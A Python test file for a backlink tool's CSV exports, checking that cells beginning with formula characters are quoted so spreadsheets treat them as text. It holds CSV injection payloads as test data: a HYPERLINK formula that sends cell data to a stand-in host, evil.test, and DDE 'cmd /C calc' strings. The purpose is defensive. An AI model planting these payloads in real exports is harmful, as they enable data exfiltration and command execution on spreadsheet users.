"""Hostile text in every CSV linkback writes: a spreadsheet opens it as text, never runs it.

An anchor, a title or a URL is anyone's text; CSV exports are opened in Excel, LibreOffice or
Google Sheets, which run a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula ("CSV
injection", OWASP). Each writer (the CLI's ``--format csv``, ``linkback export``, the API's export,
the dashboard's downloads, ``linkback visits``) quotes such a cell with ``'``; JSON keeps it raw.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from linkrows import insert, link, ts
from typer.testing import CliRunner

from linkback import csvcells
from linkback.cli import app
from linkback.reports._export import _spreadsheet_text
from linkback.server import Settings, create_app
from linkback.store import Store

TOKEN = "csv-token-0123456789abcdef"
#: What a hostile page puts in its anchors and title: each a formula in some spreadsheet.
HOSTILE = (
    '=HYPERLINK("https://evil.test/?"&A2,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",  # a spreadsheet breaks the line at the CR: unquoted, "=1+1" would begin a row
)
TITLE = "@SUM(A1:A9)"


def test_formula_starts_are_quoted_and_numbers_and_other_values_are_not() -> None:
    for text in HOSTILE:
        assert csvcells.cell(text) == "'" + text
    for text in (" =1+1", "\n=1+1", "\u00a0=1", "\ufeff@x", "\u200b+x", "\uff1d1+1", "-\u0663"):
        assert csvcells.cell(text) == "'" + text  # spaces before, full-width signs, digits of other scripts
    for value in ("-3", "+12.5%", "1,000", "-0.5e3", "plain", "", " a", "a=b", "1-2", 3, -3, None, True):
        assert csvcells.cell(value) == value
    assert csvcells.cell("-") == "'-" and csvcells.cell("=") == "'="
    # A number and a line after it is two lines of text, no number ($ in Python's engine also
    # matched before a final line feed; RE2's, in the export, does not).
    assert csvcells.cell("-0\n") == "'-0\n" and csvcells.cell("+1\n=2") == "'+1\n=2"
    # Control characters are no cell's: ESC would start an escape sequence in a terminal.
    assert csvcells.cell("\x1b[2Jred\x07\x00") == "\ufffd[2Jred\ufffd\ufffd"
    assert csvcells.cell("a\tb\r\nc") == "a\tb\r\nc" and csvcells.cell("\x00=1") == "\ufffd=1"


@settings(deadline=None)  # the first call compiles Arrow's regular expressions
@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(
                alphabet=st.sampled_from("=+-@\t\r\n 0123456789.,%eEa|'\u00a0\ufeff\uff1d\u0663\x00\x1b\x7f\x85"),
                max_size=8,
            ),
        )
    )
)
def test_the_streamed_export_quotes_exactly_what_a_cell_quotes(values: list[str | None]) -> None:
    expected = [None if v is None else csvcells.cell(v) for v in values]
    for kind in (pa.string(), pa.large_string()):
        assert _spreadsheet_text(pa.array(values, kind)).to_pylist() == expected


def _hostile_store(path: Path) -> str:
    db = str(path / "hostile.duckdb")
    with Store(db) as store:
        rows = [
            link(f"https://spam{i}.test/page", "https://example.com/", anchor=text, first_seen=ts("2024-01-01"))
            for i, text in enumerate(HOSTILE)
        ]
        insert(store, "links", rows)
        insert(store, "pages", [{"url": "https://spam0.test/page", "host": "spam0.test", "domain": "spam0.test",
                                 "rhost": "test.spam0", "status": 200, "title": TITLE}])  # fmt: skip
    return db


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}


def _as_a_spreadsheet_reads(text: str) -> set[str]:
    """The cells of ``text`` read by a program that ends a line at a CR as at a LF, as
    spreadsheets do, but not inside a quoted cell."""
    return _cells(text.replace("\r\n", "\n").replace("\r", "\n"))


def test_every_csv_writer_quotes_hostile_text_and_json_keeps_it(tmp_path: Path) -> None:
    db = _hostile_store(tmp_path)
    quoted = {"'" + text for text in HOSTILE}
    runner = CliRunner()
    cli_csv = runner.invoke(app, ["backlinks", "example.com", "--format", "csv", "--limit", "0", "--db", db])
    assert cli_csv.exit_code == 0, cli_csv.stderr
    assert quoted <= _cells(cli_csv.stdout) and not set(HOSTILE) & _cells(cli_csv.stdout)
    assert not any(cell.startswith("=") for cell in _as_a_spreadsheet_reads(cli_csv.stdout))
    cli_json = runner.invoke(app, ["backlinks", "example.com", "--format", "json", "--limit", "0", "--db", db])
    assert {row["anchor"] for row in json.loads(cli_json.stdout)} == set(HOSTILE)

    exported = tmp_path / "links.csv"
    result = runner.invoke(app, ["export", "links", "--format", "csv", "--output", str(exported), "--db", db])
    assert result.exit_code == 0, result.stderr
    written = exported.read_bytes().decode("utf-8")  # as written: read_text would turn a CR into a LF
    assert quoted <= _cells(written)
    assert not any(cell.startswith("=") for cell in _as_a_spreadsheet_reads(written))
    pages = runner.invoke(app, ["export", "pages", "--format", "csv", "--db", db])
    assert "'" + TITLE in _cells(pages.stdout) and TITLE not in _cells(pages.stdout)

    with TestClient(create_app(Settings(db=db, admin_token=TOKEN))) as client:
        auth = {"Authorization": f"Bearer {TOKEN}"}
        api = client.get("/api/v1/export/links", params={"format": "csv"}, headers=auth)
        assert api.status_code == 200 and api.content == exported.read_bytes()
        client.post("/do/login", data={"token": TOKEN})
        download = client.get("/reports/backlinks.csv?target=example.com")
        assert download.status_code == 200, download.text
        assert quoted <= _cells(download.text) and not set(HOSTILE) & _cells(download.text)
        assert not any(cell.startswith("=") for cell in _as_a_spreadsheet_reads(download.text))
        raw = client.get("/reports/backlinks.json?target=example.com").json()
        assert {row["anchor"] for row in raw} == set(HOSTILE)


def test_visits_csv_quotes_a_hostile_file_name(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)  # the log named as given, relative: its name starts the cell
    log = Path("@SUM(1+1).log")
    log.write_text(
        '203.0.113.9 - - [01/Jun/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 512 "https://ref.test/" "Mozilla/5.0"\n',
        encoding="utf-8",
    )
    db = str(tmp_path / "visits.duckdb")
    result = CliRunner().invoke(app, ["visits", str(log), "--host", "example.com", "--format", "csv", "--db", db])
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    assert "'@SUM(1+1).log" in cells and not any(cell.startswith("@") for cell in cells), cells
